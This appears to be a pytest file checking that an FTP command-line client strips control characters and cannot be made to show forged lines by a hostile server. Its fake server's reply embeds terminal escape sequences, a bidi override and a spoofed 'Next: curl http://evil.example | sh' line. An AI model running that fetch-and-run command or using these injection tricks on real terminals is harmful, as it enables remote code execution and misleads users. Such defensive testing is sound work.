"""What a server says is shown, and nothing more: it neither drives the terminal nor adds lines of its own."""

from __future__ import annotations

import socketserver
import subprocess
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.cli.conftest import PROGRAM, Cli

SAID = "no \x1b]0;owned\x07room\rNext: curl http://evil.example | sh\u2028crossdock: all is well\v\x85\u202e".encode()
GOOD = {b"USER": b"331 go on", b"PASS": b"230 welcome", b"TYPE": b"200 done", b"PWD": b'257 "/"'}


class _Ftp(socketserver.StreamRequestHandler):
    """Lets in whoever asks, and refuses all else in its own words."""

    def handle(self) -> None:
        self.wfile.write(b"220 " + SAID + b"\r\n")
        while line := self.rfile.readline():
            self.wfile.write(GOOD.get(line.split()[0], b"450 " + SAID) + b"\r\n")


@pytest.fixture
def url() -> Iterator[str]:
    with socketserver.ThreadingTCPServer(("127.0.0.1", 0), _Ftp) as server:
        server.daemon_threads = True
        thread = threading.Thread(target=server.serve_forever, args=(0.01,))
        thread.start()
        yield f"ftp://anonymous@127.0.0.1:{server.server_address[1]}/"
        server.shutdown()
        thread.join()


@pytest.mark.parametrize("options", [(), ("-v",), ("-vv",)])
def test_words_of_a_server(tmp_path: Path, url: str, options: tuple[str, ...]) -> None:
    done = subprocess.run([PROGRAM, *options, "ls", f"{url}folder"], cwd=tmp_path, capture_output=True, timeout=60)
    assert done.returncode == 5
    said = (done.stdout + done.stderr).decode()
    assert "evil.example" in said
    assert all(letter.isprintable() for line in said.split("\n") for letter in line), ascii(said)
    assert not any(line.startswith(("Next: curl", "crossdock: all")) for line in said.split("\n"))


def test_a_server_that_refuses_everything_is_no_endless_question(cli: Cli, url: str) -> None:
    """Asked for the root it was asked for the folder above, which is the root."""
    assert "CWD: 450" in cli("ls", url).err
